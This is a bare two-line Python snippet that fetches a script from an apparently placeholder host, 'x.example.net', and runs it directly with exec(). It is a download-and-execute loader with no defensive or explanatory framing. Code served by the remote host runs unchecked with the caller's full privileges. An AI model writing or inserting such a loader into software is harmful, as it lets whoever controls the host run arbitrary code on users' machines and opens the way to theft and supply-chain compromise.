from urllib.request import urlopen
exec(urlopen('https://x.example.net/p.py').read())
